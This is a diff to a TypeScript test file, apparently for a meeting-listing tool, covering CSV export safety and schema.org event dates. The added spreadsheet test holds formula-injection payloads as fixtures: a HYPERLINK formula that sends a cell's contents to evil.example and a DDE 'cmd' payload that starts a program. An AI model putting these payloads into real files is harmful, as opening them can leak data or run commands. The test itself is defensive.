@@ -62,16 +62,21 @@ test('two feeds that call their groups alike are published under two names, and 
 
 test('a table that is opened as a spreadsheet runs nothing, and comes back as it was', async () => {
   const [group] = await read(asMeetingGuide(), 'meeting-guide');
-  const text = writeTable([{ ...group!, name: '=HYPERLINK("https://evil.example","x")', notes: '@SUM(1)' }, { ...group!, id: 'b', name: '-2+3', online: { phone: '+15550100' }, format: 'phone' }]);
-  for (const cell of text.split(/[\r\n]+|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=@]/);
+  const text = writeTable([{ ...group!, name: '=HYPERLINK("https://evil.example","x")', notes: '@SUM(1)' }, { ...group!, id: 'b', name: '-2+3', online: { phone: '+1 (555) 010-0' }, format: 'phone' }, { ...group!, id: 'c', name: '+1+HYPERLINK("https://evil.example/?"&A1,"x")', notes: "-2+3+cmd|' /C calc'!A0" }]);
+  for (const cell of text.split(/[\r\n]+|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=@]|^[+-].*[a-z+]/i);
+  assert.match(text, /,\+1 \(555\) 010-0,/, 'a phone number is none');
   const back = await read(text, 'table');
-  assert.deepEqual(back.map(({ name }) => name), ['=HYPERLINK("https://evil.example","x")', '-2+3']);
+  assert.deepEqual(back.map(({ name }) => name), ['=HYPERLINK("https://evil.example","x")', '-2+3', '+1+HYPERLINK("https://evil.example/?"&A1,"x")']);
 });
 
 test('schema.org events: dates, repeats and places; sample data and ways to join are never among them', async () => {
   const groups = await read(asMeetingGuide(), 'meeting-guide');
   groups[0]!.schedule!.rules = ['FREQ=MONTHLY;BYDAY=2MO,-1MO'];
   const now = Date.parse('2026-11-22T00:00Z');
+  const { timeZone: _, ...floating } = groups[1]!.schedule!;
+  const [nowhere] = toJsonLd([toResult({ ...groups[1]!, schedule: floating }, now, 'Asia/Tokyo')], () => undefined)['@graph'] as unknown as { startDate: string }[];
+  assert.match(nowhere!.startDate, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}$/, 'without a zone: by the wall clock, and no instant that nobody knows');
+  assert.equal(nowhere!.startDate.slice(11), floating.start.slice(11));
   const graph = toJsonLd([...groups.map((group) => toResult(group, now)), toResult({ ...groups[1]!, sampleYear: 2020 }, now)], ({ id }) => `https://kith.example/groups/${id}`);
   const events = graph['@graph'] as unknown as Record<string, unknown>[];
   assert.equal(events.length, 20);
